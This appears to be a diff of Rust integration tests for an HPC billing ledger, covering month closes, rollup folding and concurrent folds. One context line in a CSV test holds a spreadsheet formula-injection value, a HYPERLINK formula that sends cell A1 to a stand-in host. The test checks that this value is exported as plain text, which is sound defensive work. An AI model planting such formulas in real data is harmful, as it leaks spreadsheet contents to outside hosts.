@@ -270,7 +270,7 @@ async fn a_supersede_moves_the_job_and_its_charge_and_closing_keeps_every_sum() 
     .unwrap();
     assert!(gpu_jobs > 0, "the sample holds a GPU job");
 
-    // Closing October folds its rows to one per key and changes no report.
+    // Closing October and folding its rows to one per key changes no report.
     let reports: Vec<String> = ["user", "cluster", "node-type", "class", "month"]
         .iter()
         .map(|b| by(b))
@@ -292,6 +292,7 @@ async fn a_supersede_moves_the_job_and_its_charge_and_closing_keeps_every_sum() 
     for month in 1..=10 {
         close_by_hand(&db.pool, &format!("2026-{month:02}-01")).await;
     }
+    assert_eq!(fold(&db.pool).await, 10);
     let (after, keys) = rows(&db.pool).await;
     assert!(
         before > after && after == keys,
@@ -353,70 +354,49 @@ async fn a_user_name_that_looks_like_a_formula_is_text_in_csv() {
     assert!(text.contains("=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")"), "{text}");
 }
 
-/// Rows of each rollup: (folded, not folded), and whether every key has at
-/// most one folded row.
-async fn rollup_rows(pool: &sqlx::PgPool) -> [(i64, i64, bool); 2] {
-    let draw: (i64, i64, bool) = sqlx::query_as(
-        "SELECT count(*) FILTER (WHERE folded), count(*) FILTER (WHERE NOT folded),
-                count(*) FILTER (WHERE folded) = count(DISTINCT (project_id, cluster_id, period, day))
-                                                     FILTER (WHERE folded)
-           FROM ledger_draw",
+/// A month's rows and keys in each rollup: `[(draw rows, draw keys), (usage rows, usage keys)]`.
+async fn rollup_rows(pool: &sqlx::PgPool, month: &str) -> [(i64, i64); 2] {
+    let draw: (i64, i64) = sqlx::query_as(
+        "SELECT count(*), count(DISTINCT (project_id, cluster_id, day)) FROM ledger_draw WHERE period = $1::date",
     )
+    .bind(month)
     .fetch_one(pool)
     .await
     .unwrap();
-    let usage: (i64, i64, bool) = sqlx::query_as(
-        "SELECT count(*) FILTER (WHERE folded), count(*) FILTER (WHERE NOT folded),
-                count(*) FILTER (WHERE folded)
-                  = count(DISTINCT (project_id, period, kind, user_name, cluster_id, node_type_id, rate_card_id,
-                                    storage_rate_id)) FILTER (WHERE folded)
-           FROM ledger_usage",
+    let usage: (i64, i64) = sqlx::query_as(
+        "SELECT count(*), count(DISTINCT (project_id, kind, user_name, cluster_id, node_type_id, rate_card_id,
+                                         storage_rate_id))
+           FROM ledger_usage WHERE period = $1::date",
     )
+    .bind(month)
     .fetch_one(pool)
     .await
     .unwrap();
     [draw, usage]
 }
 
-/// Every key's sums in `ledger_usage` against the entries summed again
-/// (`audit.entry_usage`): the keys whose sums differ.
-async fn usage_keys_off(pool: &sqlx::PgPool) -> i64 {
-    sqlx::query_scalar(
-        "WITH kept AS (
-             SELECT project_id, period, kind, user_name, cluster_id, node_type_id, rate_card_id, storage_rate_id,
-                    sum(jobs) AS jobs, sum(core_hours) AS ch, sum(amount) AS amount, sum(entries) AS n
-               FROM ledger_usage GROUP BY 1, 2, 3, 4, 5, 6, 7, 8),
-         direct AS (
-             SELECT project_id, period, kind, user_name, cluster_id, node_type_id, rate_card_id, storage_rate_id,
-                    sum(jobs) AS jobs, sum(core_hours) AS ch, sum(amount) AS amount, count(*) AS n
-               FROM audit.entry_usage GROUP BY 1, 2, 3, 4, 5, 6, 7, 8)
-         SELECT count(*) FROM kept k FULL JOIN direct d
-             ON (k.project_id, k.period, k.kind) = (d.project_id, d.period, d.kind)
-            AND k.user_name IS NOT DISTINCT FROM d.user_name AND k.cluster_id IS NOT DISTINCT FROM d.cluster_id
-            AND k.node_type_id IS NOT DISTINCT FROM d.node_type_id
-            AND k.rate_card_id IS NOT DISTINCT FROM d.rate_card_id
-            AND k.storage_rate_id IS NOT DISTINCT FROM d.storage_rate_id
-          WHERE (k.jobs, k.ch, k.amount, k.n) IS DISTINCT FROM (d.jobs, d.ch, d.amount, d.n)",
-    )
-    .fetch_one(pool)
-    .await
-    .unwrap()
+/// `SELECT hl_fold_rollups()`: the months it folded.
+async fn fold(pool: &sqlx::PgPool) -> i32 {
+    sqlx::query_scalar("SELECT hl_fold_rollups()")
+        .fetch_one(pool)
+        .await
+        .unwrap()
 }
 
-/// Issue 19, item 2 (migration 0042): the rollup rows a posting appends are
-/// folded after each import and storage billing run, so a month's close
-/// folds only what came after; folding changes no sum and no report.
-#[tokio::test]
-async fn rollups_are_folded_after_each_import_and_the_close_folds_the_rest() {
-    let db = sample().await;
-    // Two imports and a storage run, each folded when it finished: nothing
-    // is left unfolded, and every key has one folded row.
-    let [draw, usage] = rollup_rows(&db.pool).await;
-    assert!(draw.0 > 0 && usage.0 > 0, "{draw:?} {usage:?}");
-    assert_eq!((draw.1, draw.2, usage.1, usage.2), (0, true, 0, true));
-    assert_eq!(usage_keys_off(&db.pool).await, 0);
+async fn folded_months(pool: &sqlx::PgPool) -> Vec<String> {
+    sqlx::query_scalar("SELECT to_char(period, 'YYYY-MM') FROM rollup_fold ORDER BY period")
+        .fetch_all(pool)
+        .await
+        .unwrap()
+}
 
-    // A refund is one posting, not a bulk write: its rows wait, appended.
+/// Issue 19, item 2 (migration 0042): a month's close does not fold its
+/// rollups (postings wait on the close); `hpc-ledger close` folds them once
+/// the close has committed, and so does any later fold for a month whose
+/// close did not. Folding changes no report and no audit finding.
+#[tokio::test]
+async fn a_months_rollups_are_folded_after_its_close_not_in_it() {
+    let db = sample().await;
     let report = |db: &TestDb| {
         ok(&db.cli(&[
             "usage",
@@ -425,7 +405,7 @@ async fn rollups_are_folded_after_each_import_and_the_close_folds_the_rest() {
             "--from",
             "2026-01",
             "--to",
-            "2026-11",
+            "2026-10",
             "--by",
             "user",
             "--format",
@@ -433,128 +413,65 @@ async fn rollups_are_folded_after_each_import_and_the_close_folds_the_rest() {
         ]))
     };
     let before = report(&db);
-    ok(&db.cli(&[
-        "refund",
-        "--cluster",
-        "owens",
-        "--job-id",
-        "1002",
-        "--fraction",
-        "0.5",
-        "--reason",
-        "slow disk",
-        "--month",
-        "2026-10",
-    ]));
-    let [draw, usage] = rollup_rows(&db.pool).await;
-    assert!(draw.1 > 0 && usage.1 > 0, "{draw:?} {usage:?}");
-    let unfolded = draw.1 + usage.1;
-    let refunded = report(&db);
-    assert_ne!(refunded, before, "the refund shows before it is folded");
-    assert_eq!(usage_keys_off(&db.pool).await, 0);
-    ok(&db.cli(&["audit"]));
-    // A fold of another month leaves October's rows; a fold of every month
-    // moves them into their keys' rows, and the report is the same.
-    let fold = |month: Option<&'static str>| {
-        let pool = db.pool.clone();
-        async move {
-            sqlx::query_scalar::<_, i64>("SELECT hl_fold_rollups($1::date)")
-                .bind(month)
-                .fetch_one(&pool)
-                .await
-                .unwrap()
-        }
-    };
-    assert_eq!(fold(Some("2026-09-01")).await, 0);
-    assert_eq!(fold(None).await, unfolded);
-    let [draw, usage] = rollup_rows(&db.pool).await;
-    assert_eq!((draw.1, draw.2, usage.1, usage.2), (0, true, 0, true));
-    assert_eq!(report(&db), refunded);
-    assert_eq!(usage_keys_off(&db.pool).await, 0);
-    ok(&db.cli(&["audit"]));
-
-    // Another refund into October: the close of October folds it.
-    ok(&db.cli(&[
-        "refund",
-        "--cluster",
-        "owens",
-        "--job-id",
-        "1002",
-        "--fraction",
-        "0.25",
-        "--reason",
-        "node fault",
-        "--month",
-        "2026-10",
-    ]));
-    assert!(rollup_rows(&db.pool).await.iter().all(|r| r.1 > 0));
-    let again = report(&db);
+    // Two imports and a storage run in October: more rows than keys (usage).
+    let [draw, usage] = rollup_rows(&db.pool, "2026-10-01").await;
+    assert!(draw.0 + usage.0 > draw.1 + usage.1, "{draw:?} {usage:?}");
+    // The database's close leaves them as they are.
     for month in 1..=10 {
         close_by_hand(&db.pool, &format!("2026-{month:02}-01")).await;
     }
-    let [draw, usage] = rollup_rows(&db.pool).await;
-    assert_eq!((draw.1, draw.2, usage.1, usage.2), (0, true, 0, true));
-    assert_eq!(report(&db), again);
-    assert_eq!(usage_keys_off(&db.pool).await, 0);
+    assert_eq!(rollup_rows(&db.pool, "2026-10-01").await, [draw, usage]);
+    assert!(folded_months(&db.pool).await.is_empty());
+    assert_eq!(report(&db), before);
+    ok(&db.cli(&["audit"]));
+    // A fold folds every closed month once, oldest first, to one row per key.
+    assert_eq!(fold(&db.pool).await, 10);
+    let [d, u] = rollup_rows(&db.pool, "2026-10-01").await;
+    assert_eq!((d, u), ((draw.1, draw.1), (usage.1, usage.1)));
+    assert_eq!(folded_months(&db.pool).await.len(), 10);
+    assert_eq!(fold(&db.pool).await, 0);
+    assert_eq!(report(&db), before);
+    ok(&db.cli(&["audit"]));
+
+    // `hpc-ledger close` folds what it closed, once committed.
+    let db = sample().await;
+    let [draw, usage] = rollup_rows(&db.pool, "2026-10-01").await;
+    assert!(draw.0 + usage.0 > draw.1 + usage.1, "{draw:?} {usage:?}");
+    ok(&db.cli(&["close", "--through", "2026-10"]));
+    let [d, u] = rollup_rows(&db.pool, "2026-10-01").await;
+    assert_eq!((d, u), ((draw.1, draw.1), (usage.1, usage.1)));
+    let months = folded_months(&db.pool).await;
+    assert_eq!(months.last().map(String::as_str), Some("2026-10"), "{months:?}");
+    assert_eq!(report(&db), before);
     ok(&db.cli(&["audit"]));
 }
 
-/// Folds run one at a time, beside postings that append: however they
-/// interleave, no appended row is lost or counted twice.
+/// Folds run one at a time: however many run at once, each closed month is
+/// folded once and no sum changes.
 #[tokio::test]
-async fn concurrent_folds_and_appends_lose_and_double_nothing() {
+async fn concurrent_folds_fold_each_month_once() {
     let db = sample().await;
-    let total = |pool: sqlx::PgPool| async move {
-        sqlx::query_as::<_, (Decimal, Decimal, i64)>(
-            "SELECT (SELECT sum(amount) FROM ledger_usage), (SELECT sum(amount) FROM ledger_draw),
-                    (SELECT count(*) FROM ledger_usage WHERE NOT folded)
-                  + (SELECT count(*) FROM ledger_draw WHERE NOT folded)",
-        )
-        .fetch_one(&pool)
-        .await
-        .unwrap()
-    };
-    let (usage0, draw0, _) = total(db.pool.clone()).await;
-    // Writers append a copy of a random folded row with amount 0.01, one
-    // transaction each, as the insert trigger would; folders fold.
-    let mut tasks = Vec::new();
-    for _ in 0..3 {
-        let pool = db.pool.clone();
-        tasks.push(tokio::spawn(async move {
-            for _ in 0..40 {
-                sqlx::raw_sql(
-                    "INSERT INTO ledger_usage (project_id, period, kind, user_name, cluster_id, node_type_id,
-                                               rate_card_id, storage_rate_id, jobs, core_hours, gpu_hours,
-                                               tb_months, amount, entries)
-                     SELECT project_id, period, kind, user_name, cluster_id, node_type_id, rate_card_id,
-                            storage_rate_id, 0, 0, 0, 0, 0.01, 0
-                       FROM ledger_usage WHERE folded ORDER BY random() LIMIT 1;
-                     INSERT INTO ledger_draw (project_id, cluster_id, period, day, first_at, last_at, amount,
-                                              entries)
-                     SELECT project_id, cluster_id, period, day, first_at, last_at, 0.01, 0
-                       FROM ledger_draw WHERE folded ORDER BY random() LIMIT 1",
-                )
-                .execute(&pool)
-                .await
-                .unwrap();
-            }
-        }));
+    let sums = "SELECT (SELECT sum(amount) FROM ledger_usage)::text, (SELECT sum(amount) FROM ledger_draw)::text,
+                       (SELECT sum(amount) FROM ledger_entry)::text";
+    let before: (String, String, String) = sqlx::query_as(sums).fetch_one(&db.pool).await.unwrap();
+    for month in 1..=10 {
+        close_by_hand(&db.pool, &format!("2026-{month:02}-01")).await;
     }
-    for _ in 0..3 {
-        let pool = db.pool.clone();
-        tasks.push(tokio::spawn(async move {
-            for _ in 0..20 {
-                sqlx::query("SELECT hl_fold_rollups()").execute(&pool).await.unwrap();
-            }
-        }));
-    }
+    let tasks: Vec<_> = (0..4)
+        .map(|_| {
+            let pool = db.pool.clone();
+            tokio::spawn(async move { fold(&pool).await })
+        })
+        .collect();
+    let mut folded = 0;
     for t in tasks {
-        t.await.unwrap();
+        folded += t.await.unwrap();
     }
-    sqlx::query("SELECT hl_fold_rollups()").execute(&db.pool).await.unwrap();
-    let (usage1, draw1, unfolded) = total(db.pool.clone()).await;
-    let added = Decimal::new(120, 2);
-    assert_eq!((usage1 - usage0, draw1 - draw0, unfolded), (added, added, 0));
-    let [draw, usage] = rollup_rows(&db.pool).await;
-    assert!(draw.2 && usage.2, "{draw:?} {usage:?}");
+    assert_eq!(folded, 10);
+    assert_eq!(folded_months(&db.pool).await.len(), 10);
+    let after: (String, String, String) = sqlx::query_as(sums).fetch_one(&db.pool).await.unwrap();
+    assert_eq!(after, before);
+    assert_eq!(before.0, before.2);
+    let [d, u] = rollup_rows(&db.pool, "2026-10-01").await;
+    assert!(d.0 == d.1 && u.0 == u.1, "{d:?} {u:?}");
 }
